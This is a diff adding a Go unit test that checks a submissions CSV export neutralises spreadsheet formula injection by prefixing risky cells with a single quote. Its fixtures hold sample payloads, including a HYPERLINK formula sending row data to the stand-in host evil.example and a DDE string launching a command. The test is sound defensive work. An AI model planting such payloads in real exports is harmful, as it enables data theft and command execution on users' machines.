@@ -101,3 +101,45 @@ func must(b []byte, err error) []byte {
 	}
 	return b
 }
+
+// A partner opens the CSV export in a spreadsheet. A text cell the platform
+// or a Toloker controls (custom_log, user_id, last_error.message) that
+// starts with = + - @, a tab or a carriage return would run as a formula
+// (=HYPERLINK(...) exfiltrates the row, DDE worse): it is written with a
+// leading single quote (OWASP's CSV-injection advice). Amounts, counts,
+// times and the cursor (which a client passes back unchanged) are written
+// as they are.
+func TestACSVCellThatStartsAFormulaIsQuoted(t *testing.T) {
+	row := &crowdgatev1.ExportSubmissionsResponse{Cursor: "-c1", Submission: &crowdgatev1.Submission{
+		SubmissionId: "sub_1", UserId: "@SUM(1+1)", RetryId: "-2+3", Reward: "1.00", Quality: "0.5",
+		CustomLog: `=HYPERLINK("https://evil.example/?d="&A2,"click")`, AssignmentId: "\tx",
+		LastError:        &crowdgatev1.TolokaError{Message: "+cmd|' /C calc'!A0", RequestId: "\r=1", PayloadJson: `{"a":"=1"}`},
+		GoldenTasksCount: proto.Int32(3),
+		CreateTime:       timestamppb.New(time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)),
+	}}
+	cols := Columns(row)
+	rec := parseCSV(t, must(CSVRow(row)))
+	cell := func(name string) string { return rec[slices.Index(cols, name)] }
+	for name, want := range map[string]string{
+		"user_id":                 "'@SUM(1+1)",
+		"retry_id":                "'-2+3",
+		"custom_log":              `'=HYPERLINK("https://evil.example/?d="&A2,"click")`,
+		"assignment_id":           "'\tx",
+		"last_error.message":      "'+cmd|' /C calc'!A0",
+		"last_error.request_id":   "'\r=1",
+		"last_error.payload_json": `{"a":"=1"}`,
+		"cursor":                  "-c1",
+		"submission_id":           "sub_1",
+		"reward":                  "1.00",
+		"quality":                 "0.5",
+		"golden_tasks_count":      "3",
+		"create_time":             "2026-01-02T03:04:05Z",
+	} {
+		if got := cell(name); got != want {
+			t.Errorf("%s = %q, want %q", name, got, want)
+		}
+	}
+	if got := parseCSV(t, CSVError("UNAVAILABLE", "=1+1")); got[2] != "'=1+1" {
+		t.Errorf("error record %q: its message starts a formula", got)
+	}
+}
